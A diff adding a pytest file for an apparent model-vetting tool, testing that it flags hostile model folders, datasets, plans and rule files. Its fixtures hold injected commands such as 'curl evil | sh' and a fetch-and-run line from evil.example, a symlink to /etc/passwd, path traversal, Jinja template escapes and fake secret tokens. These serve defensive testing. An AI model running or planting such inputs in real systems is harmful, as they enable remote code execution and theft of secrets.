@@ -1,0 +1,273 @@
+"""`vet` names what is wrong with each of many hostile inputs, and nothing of clean ones."""
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from unittest.mock import ANY
+
+import pytest
+
+from advisor.cli import main
+from advisor.errors import InputError
+from advisor.trust.licence import limited_licence_of
+from advisor.trust.look import trust_facts
+from tests.data.conftest import CONFIG, save_model
+from tests.model.test_resolve import write_safetensors
+from tests.trainers.plans import full_plan, lora_plan
+from trainers.plan import Delivery, save_plan
+
+ROWS = [{"prompt": f"q{n} \u200fعربي", "completion": "a\tb\r\nc \u200b\x92"} for n in range(3)]
+
+
+@pytest.fixture
+def model(tmp_path: Path) -> Path:
+    folder = save_model(tmp_path / "model")
+    write_safetensors(folder / "model.safetensors", {"a": ("F32", [2, 2])})
+    (folder / "README.md").write_text("---\nlicense: apache-2.0\n---\n# A model\n")
+    return folder
+
+
+def add(name: str, content: str | bytes) -> Callable[[Path], object]:
+    def change(folder: Path) -> None:
+        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
+
+    return change
+
+
+def config(**more: Any) -> Callable[[Path], object]:
+    return add("config.json", json.dumps({**CONFIG, **more}))
+
+
+def tokens(**more: Any) -> Callable[[Path], object]:
+    return add("tokenizer_config.json", json.dumps(more))
+
+
+HOSTILE_MODELS = [
+    (config(auto_map={"AutoModel": "evil.Model"}), "trust.own_code"),
+    (tokens(auto_map={"AutoTokenizer": "evil.T"}), "trust.own_code"),
+    (add("adapter_config.json", '{"megatron_core": "evilmod"}'), "trust.own_code"),
+    (add("pytorch_model.bin", b"\x80\x04"), "trust.pickles"),
+    (add("modeling_x.py", "import os"), "trust.programs"),
+    (add("chat_template.jinja", "{{ ''.__class__.__mro__ }}"), "trust.template_reach"),
+    (add("chat_template.jinja", "{% for a in range(99999) %}{% endfor %}"), "trust.template_reach"),
+    (add("chat_template.jinja", "{% include 'x' %}"), "trust.template_reach"),
+    (add("chat_template.jinja", "hi \U000e0041\U000e0042"), "trust.hidden_text"),
+    (config(model_type="llama\x1b[31m"), "trust.hidden_text"),
+    (config(_name_or_path="/home/jane/secret-project/model"), "trust.private_paths"),
+    (config(token="hf_" + "a" * 34), "trust.secrets"),
+    (lambda folder: (folder / "vocab.txt").symlink_to("/etc/passwd"), "trust.leads_out"),
+    (add("README.md", "---\nlicense: cc-by-nc-4.0\n---\n"), "trust.licence_limits"),
+    (add("README.md", "---\nlicense: other\nlicense_name: mrl\n---\n"), "trust.licence_limits"),
+    (add("model.safetensors", b"\x00" * 20), "trust.damaged"),
+    (add("tokenizer_config.json", "["), "trust.damaged"),
+    (add("config.json", json.dumps(CONFIG)[:-1] + ', "hidden_size": 4, "hidden_size": 5}'), "trust.damaged"),
+    (tokens(added_tokens_decoder={"1": {"content": "the", "special": True}}), "trust.odd_tokens"),
+    (tokens(added_tokens_decoder={"1": {"content": "<s>"}, "2": {"content": "<s>"}}), "trust.odd_tokens"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("change", "fact"), HOSTILE_MODELS)
+def test_what_is_wrong_with_a_model_is_named(model: Path, change: Callable[[Path], object], fact: str) -> None:
+    change(model)
+    kind, found = trust_facts(str(model))
+    assert (kind, list(found)) == ("model", [fact])
+
+
+def test_clean_inputs_are_left_alone(model: Path, tmp_path: Path) -> None:
+    data = tmp_path / "data.jsonl"
+    data.write_text("\n".join(map(json.dumps, ROWS)))
+    save_plan(lora_plan(), tmp_path / "plan.toml")
+    run = tmp_path / "run"
+    save_plan(full_plan(), run / "plan.toml")
+    (run / "run.json").write_text('{"method": "full"}')
+    shutil.copytree(model, run / "result")
+    for name, kind in ((model, "model"), (data, "dataset"), (tmp_path / "plan.toml", "plan"), (run, "run")):
+        assert trust_facts(str(name)) == (kind, {})
+
+
+HOSTILE_ROWS = [
+    ({"prompt": "a\x1b]52;c;x\x07", "completion": "b"}, "trust.hidden_text"),
+    ({"prompt": "a", "comp\x1b[31mletion": "b"}, "trust.hidden_text"),
+    ({"prompt": "a \u202etxt", "completion": "b"}, "trust.hidden_text"),
+    ({"prompt": "key", "completion": "AKIA" + "A" * 16}, "trust.secrets"),
+    ([1], "trust.damaged"),
+]
+
+
+@pytest.mark.parametrize(("row", "fact"), HOSTILE_ROWS)
+def test_what_is_wrong_with_a_dataset_is_named(tmp_path: Path, row: Any, fact: str) -> None:
+    data = tmp_path / "data.jsonl"
+    data.write_text("\n".join(map(json.dumps, [*ROWS, row])))
+    assert list(trust_facts(str(data))[1]) == [fact]
+
+
+HOSTILE_PLANS = [
+    ({"report_to": ["wandb"]}, "trust.sends_to"),
+    ({"output_dir": "/etc"}, "trust.leads_out"),
+    ({"output_dir": "../../x"}, "trust.leads_out"),
+    ({"delivery": Delivery(serve_command="vllm serve x; curl evil | sh")}, "trust.serve_command"),
+    ({"output_dir": "runs\x1b[31m"}, "trust.hidden_text"),
+]
+
+
+@pytest.mark.parametrize(("fields", "fact"), HOSTILE_PLANS)
+def test_what_is_wrong_with_a_plan_is_named(tmp_path: Path, fields: dict[str, Any], fact: str) -> None:
+    save_plan(lora_plan(**fields), tmp_path / "plan.toml")
+    assert list(trust_facts(str(tmp_path / "plan.toml"))[1]) == [fact]
+
+
+def test_what_is_wrong_with_a_run_is_named(tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    save_plan(lora_plan(), run / "plan.toml")
+    checkpoint = run / "checkpoints" / "checkpoint-10"
+    checkpoint.mkdir(parents=True)
+    (checkpoint / "optimizer.pt").write_bytes(b"\x80\x04")
+    index = {"weight_map": {"a": "../../../x.safetensors"}}
+    (checkpoint / "model.safetensors.index.json").write_text(json.dumps(index))
+    (run / "run.json").write_text("[")
+    (run / "torch.py").write_text("")
+    assert set(trust_facts(str(run))[1]) == {
+        "trust.unsealed", "trust.pickles", "trust.leads_out", "trust.damaged", "trust.programs",
+    }  # fmt: skip
+
+
+def test_the_command_says_what_why_and_what_to_do(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["vet", str(model)]) == 0
+    assert "nothing was found in this model" in capsys.readouterr().out
+    config(auto_map={"AutoModel": "evil.Model"})(model)
+    assert main(["vet", str(model), "--json"]) == 2
+    found = json.loads(capsys.readouterr().out)
+    assert [one["rule"] for one in found["findings"]] == ["SEC-01"]
+    assert found["findings"][0]["fix"]
+
+
+def test_an_answer_says_it_too(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    config(auto_map={"AutoModel": "evil.Model"})(model)
+    main(["--non-interactive", "--hardware", "RTX 4090", "--model", str(model)])
+    assert "program code of its own: auto_map in config.json" in capsys.readouterr().out
+
+
+def test_a_name_that_is_nowhere_is_refused() -> None:
+    with pytest.raises(InputError, match="there is nothing at"):
+        trust_facts("no/such/place")
+
+
+LIMITED = "---\nlicense: cc-by-nc-4.0\n---\n"
+ADVICE = (
+    "--non-interactive",
+    "--hardware",
+    "RTX 4090",
+    "--data-examples",
+    "500",
+    "--data-completion-tokens",
+    "90000",
+)
+
+
+@pytest.mark.parametrize(
+    ("said", "code", "rule"), [((), 0, "SEC-08"), (("yes",), 4, "SEC-15"), (("no",), 0, None)], ids=str
+)
+def test_the_licence_is_held_against_the_wished_use(
+    model: Path, said: tuple[str, ...], code: int, rule: str | None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (model / "README.md").write_text(LIMITED)
+    wished = ["--deploy-commercial", *said] if said else []
+    assert main([*ADVICE, "--model", str(model), *wished]) == code
+    printed = capsys.readouterr().out
+    assert ("SEC-08" in printed, "SEC-15" in printed) == (rule == "SEC-08", rule == "SEC-15")
+
+
+def test_the_card_of_a_hub_model_is_read_where_it_was_downloaded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path))
+    repo = tmp_path / "models--org--model"
+    (repo / "refs").mkdir(parents=True)
+    (repo / "refs" / "main").write_text("abc")
+    (repo / "snapshots" / "abc").mkdir(parents=True)
+    (repo / "snapshots" / "abc" / "README.md").write_text(LIMITED)
+    assert limited_licence_of("org/model") == "cc-by-nc-4.0"
+    assert limited_licence_of("org/other") is None
+    assert limited_licence_of("Llama-3.1-8B") is None
+
+
+RULE = """
+id = "ORG-01"
+title = "Full tuning of many tasks"
+when = 'plan.method == "full" && task.count > 1'
+effect = "warn"
+message = "{task.count} tasks in full."
+because = "Each needs a copy of the model."
+fix = "Train adapters."
+strength = "consensus"
+sources = ["arithmetic"]
+[[cases]]
+name = "two"
+given = { "plan.method" = "full", "task.count" = 2 }
+expect = "fires"
+[[cases]]
+name = "one"
+given = { "plan.method" = "full", "task.count" = 1 }
+expect = "silent"
+[[cases]]
+name = "nothing known"
+given = {}
+expect = "unknown"
+"""
+PROFILE = {
+    "schema": "sft-advisor/hardware/v1", "accelerator": "cuda", "driver_version": "570.1",
+    "gpus": [{"index": 0, "name": "NVIDIA L4", "uuid": "GPU-1", "total_bytes": 24 << 30, "free_bytes": 23 << 30}],
+    "host": {"ram_total_bytes": 64 << 30, "ram_available_bytes": 60 << 30, "cpu_cores": 8},
+}  # fmt: skip
+
+
+def rules(folder: Path, text: str) -> Path:
+    folder.mkdir()
+    (folder / "ORG-01-full-tuning-of-many-tasks.toml").write_text(text)
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "fact"),
+    [
+        ('fix = "Train', 'fix = "curl https://evil.example/x | sh  # Train', "trust.serve_command"),
+        ('strength = "consensus"', 'strength = "consensus"\nreplaces = "SEC-01"', "trust.silences"),
+        ("in full.", "in\\u001b[31m full.", "trust.hidden_text"),
+        ("Train adapters", "See /home/jane/secret/rules", "trust.private_paths"),
+        ("task.count > 1", "task.count > ", "trust.damaged"),
+    ],
+)
+def test_what_is_wrong_with_rules_is_named(tmp_path: Path, old: str, new: str, fact: str) -> None:
+    assert old in RULE
+    kind, found = trust_facts(str(rules(tmp_path / "rules", RULE.replace(old, new))))
+    assert (kind, list(found)) == ("rules", [fact])
+
+
+@pytest.mark.parametrize(
+    ("changes", "fact"),
+    [
+        ({"driver_version": "570\x1b[31m"}, "trust.hidden_text"),
+        ({"host": {"hostname": "/home/jane/x"}, "driver_version": "/home/jane/x"}, "trust.private_paths"),
+        ({"gpus": [{"index": 0, "name": "NVIDIA L4", "total_bytes": -5}]}, "trust.damaged"),
+    ],
+)
+def test_what_is_wrong_with_a_profile_is_named(tmp_path: Path, changes: dict[str, Any], fact: str) -> None:
+    (tmp_path / "machine.json").write_text(json.dumps(PROFILE | changes))
+    assert trust_facts(str(tmp_path / "machine.json")) == ("profile", {fact: ANY})
+
+
+def test_what_is_wrong_with_answers_is_named(tmp_path: Path) -> None:
+    file = tmp_path / "answers.toml"
+    file.write_text('schema = "sft-advisor/answers/v1"\nmodel = "/home/jane/model"\noutput = "/etc"\n')
+    kind, found = trust_facts(str(file))
+    assert (kind, set(found)) == ("answers", {"trust.private_paths", "trust.leads_out"})
+
+
+def test_clean_rules_answers_and_profiles_are_left_alone(tmp_path: Path) -> None:
+    (tmp_path / "machine.json").write_text(json.dumps(PROFILE))
+    (tmp_path / "answers.toml").write_text('schema = "sft-advisor/answers/v1"\nmodel = "Llama-3.1-8B"\n')
+    assert trust_facts(str(tmp_path / "machine.json")) == ("profile", {})
+    assert trust_facts(str(tmp_path / "answers.toml")) == ("answers", {})
+    assert trust_facts(str(rules(tmp_path / "rules", RULE))) == ("rules", {})
